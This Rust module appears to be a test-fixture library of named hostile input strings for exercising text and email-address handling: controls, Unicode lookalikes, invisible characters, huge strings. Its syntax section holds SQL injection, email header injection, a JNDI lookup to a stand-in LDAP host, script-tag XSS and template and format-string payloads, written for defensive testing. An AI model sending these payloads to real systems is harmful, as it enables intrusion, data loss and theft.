//! Texts, for every argument that is one.

use super::{Named, named};

/// Sizes in the names are characters below 1000 and bytes above.
#[must_use]
pub fn hostile_texts() -> Vec<Named<String>> {
    let mut texts: Vec<Named<String>> = named(PLAIN);
    texts.extend(named(LOOKALIKES));
    texts.extend(named(INVISIBLE));
    texts.extend(named(SYNTAX));
    texts.extend(named(TYPES));
    texts.extend(named(long()));
    texts
}

/// Nothing, white space, controls.
const PLAIN: [(&str, &str); 20] = [
    ("plain", "ada@example.com"),
    ("empty", ""),
    ("space", " "),
    ("tab", "\t"),
    ("leading-space", " ada@example.com"),
    ("trailing-space", "ada@example.com "),
    ("trailing-spaces", "ada@example.com   "),
    ("trailing-newline", "ada@example.com\n"),
    ("inner-space", "ada lovelace@example.com"),
    ("nul", "\0"),
    ("nul-first", "\0ada@example.com"),
    ("nul-inside", "ada\0@example.com"),
    ("nul-last", "ada@example.com\0"),
    (
        "header-injection",
        "ada@example.com\r\nBcc: eve@example.net",
    ),
    ("escape-sequence", "\u{1b}[31mada@example.com"),
    ("bell", "ada\u{7}@example.com"),
    ("delete", "ada\u{7f}@example.com"),
    ("next-line", "ada@example.com\u{85}"),
    ("line-separator", "ada@example.com\u{2028}"),
    ("unit-separator", "ada\u{1f}@example.com"),
];

/// Other characters that look, fold or collate like `plain`, or like each other.
const LOOKALIKES: [(&str, &str); 24] = [
    ("upper-case", "ADA@EXAMPLE.COM"),
    ("one-upper-case", "Ada@example.com"),
    ("cyrillic-a", "\u{430}da@example.com"),
    ("dotless-i", "m\u{131}ke@example.com"),
    ("dotted-capital-i", "M\u{130}KE@example.com"),
    ("mike", "mike@example.com"),
    ("kelvin-sign", "\u{212a}ate@example.com"),
    ("kate", "kate@example.com"),
    ("long-s", "\u{17f}am@example.com"),
    ("sharp-s", "stra\u{df}e"),
    ("double-s", "strasse"),
    ("full-width-at", "ada\u{ff20}example.com"),
    ("full-width-letters", "\u{ff41}\u{ff44}\u{ff41}@example.com"),
    ("composed-accent", "\u{e9}mile@example.com"),
    ("decomposed-accent", "e\u{301}mile@example.com"),
    ("no-accent", "emile@example.com"),
    ("grinning-face", "\u{1f600}"),
    ("beaming-face", "\u{1f601}"),
    (
        "family-of-joined-emoji",
        "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}",
    ),
    ("idn-domain", "ada@\u{f6}.example"),
    ("punycode-domain", "ada@xn--nda.example"),
    ("broken-punycode", "ada@xn--example-.org"),
    (
        "hex-lower-case",
        "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
    ),
    (
        "hex-upper-case",
        "9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08",
    ),
];

/// Characters that nobody sees, and those at the ends of Unicode.
const INVISIBLE: [(&str, &str); 15] = [
    ("right-to-left-override", "ada\u{202e}@example.com"),
    ("zero-width-space", "ada\u{200b}@example.com"),
    ("byte-order-mark", "\u{feff}ada@example.com"),
    ("word-joiner", "ada\u{2060}@example.com"),
    ("soft-hyphen", "ada\u{ad}@example.com"),
    ("grapheme-joiner", "ada\u{34f}@example.com"),
    ("hangul-filler", "ada\u{3164}@example.com"),
    ("variation-selector", "ada\u{fe0f}@example.com"),
    ("no-break-space", "ada\u{a0}@example.com"),
    ("tag-characters", "ada\u{e0041}\u{e0064}@example.com"),
    ("noncharacter", "ada\u{ffff}@example.com"),
    ("last-character", "ada\u{10ffff}@example.com"),
    ("replacement-character", "ada\u{fffd}@example.com"),
    ("private-use", "ada\u{e000}@example.com"),
    (
        "stacked-marks",
        "a\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}da",
    ),
];

/// What other languages read as more than text.
const SYNTAX: [(&str, &str); 26] = [
    ("sql-drop", "'; DROP TABLE users; --"),
    ("sql-or", "' OR '1'='1"),
    ("sql-union", "x' UNION SELECT * FROM sessions --"),
    ("sql-comment", "ada/* */@example.com"),
    ("single-quote", "o'hara@example.com"),
    ("double-quote", "\"ada\"@example.com"),
    ("back-tick", "`ada`@example.com"),
    ("backslash", "ada\\@example.com"),
    ("backslash-last", "ada@example.com\\"),
    ("percent", "%"),
    ("underscore", "___@_______.___"),
    ("dollar-parameter", "$1@example.com"),
    ("question-marks", "????@example.com"),
    ("named-parameter", ":ada@example.com"),
    ("cast", "ada::text@example.com"),
    ("dollar-quoted", "$$ada$$@example.com"),
    ("braces", "{}{0}{ada}@example.com"),
    ("printf", "%s%n%x@example.com"),
    ("template", "{{7*7}}${7*7}@example.com"),
    ("lookup-expression", "${jndi:ldap://example.net/a}"),
    ("markup", "<script>alert(1)</script>"),
    ("two-addresses", "ada@example.com,eve@example.net"),
    ("quoted-at", "\"ada@example.com\"@example.net"),
    ("two-at-signs", "ada@example.com@example.net"),
    ("no-local-part", "@example.com"),
    ("no-domain", "ada@"),
];

/// Texts of other types.
const TYPES: [(&str, &str); 14] = [
    ("null-word", "null"),
    ("undefined-word", "undefined"),
    ("true-word", "true"),
    ("nan-word", "NaN"),
    ("infinity-word", "infinity"),
    ("zero", "0"),
    ("one", "1"),
    ("leading-zero", "01"),
    ("exponent", "1e0"),
    ("json-array", "[\"ada@example.com\",\"eve@example.net\"]"),
    ("json-object", "{\"email\":\"ada@example.com\"}"),
    ("proto", "__proto__"),
    ("constructor", "constructor"),
    ("date-word", "tomorrow"),
];

fn long() -> [(&'static str, String); 14] {
    [
        ("ascii-255", "a".repeat(255)),
        ("ascii-256", "a".repeat(256)),
        ("accents-255", "\u{e9}".repeat(255)),
        ("accents-256", "\u{e9}".repeat(256)),
        ("emoji-255", "\u{1f600}".repeat(255)),
        ("emoji-256", "\u{1f600}".repeat(256)),
        // One character that NFKC makes eighteen of.
        ("ligatures-255", "\u{fdfa}".repeat(255)),
        // More than a key of InnoDB or a page of a B-tree holds.
        ("ascii-3k", unlike(3_500)),
        ("ascii-64k", unlike(65_536)),
        ("ascii-64k-and-1", unlike(65_537)),
        ("emoji-64k", "\u{1f600}".repeat(16_384)),
        ("emoji-64k-and-1", "\u{1f600}".repeat(16_384) + "a"),
        ("ascii-1m", "a".repeat(1 << 20)),
        ("ascii-2m", "a".repeat(2 << 20)),
    ]
}

/// Text of this length that does not compress well.
fn unlike(length: usize) -> String {
    let mut state = 1_u32;
    let mut next = || {
        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        char::from_digit(state >> 28, 16).unwrap_or('0')
    };
    (0..length).map(|_| next()).collect()
}
